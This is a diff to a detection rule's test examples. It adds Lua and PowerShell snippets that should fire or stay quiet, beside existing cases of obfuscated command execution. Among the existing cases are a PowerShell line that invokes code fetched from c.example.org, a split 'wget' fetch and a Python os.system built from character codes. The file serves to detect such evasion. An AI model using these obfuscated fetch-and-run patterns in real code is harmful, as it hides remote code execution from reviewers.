@@ -17,6 +17,8 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```lua\nlocal f = _G[string.reverse("so")]["exe" .. "cute"]\nf(t)\n```\n',
+      "```powershell\n& \"Set-Kiln$('Hea' + 'ter')\" -Level 9\n```\n",
       '```powershell\n& (Get-Command inv*ssion) (irm https://c.example.org/p)\n```\n',
       '```bash\nset -- wg et; "$1$2" -qO- https://c.example.org/x\n```\n',
       '```bash\nprintf -v p %s wg et; $p -q https://c.example.org/x\n```\n',
@@ -33,6 +35,8 @@ export default defineRule({
       "```python\nm = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'sys' + 'tem')('ls')\n```\n",
     ],
     quiet: [
+      '```lua\nlocal f = _G[name]\nlocal rows = _G["kiln_rows"]\n```\n',
+      '```powershell\n& "$($kiln.Path)\\fire.ps1" -Level 9\nWrite-Host "Set $(\'a\' + \'b\')"\n```\n',
       '| `load(url)` | `fetch_and_parse` + `validate` in one call |\n|---|---|\n',
       "```powershell\n$o = New-Object -TypeName Row -ArgumentList 'name', 'value' -f 'x'\nGet-Command *-Item\n```\n",
       'Both `curl`and`wget` do, and `npm`s own fetch as well.\n',
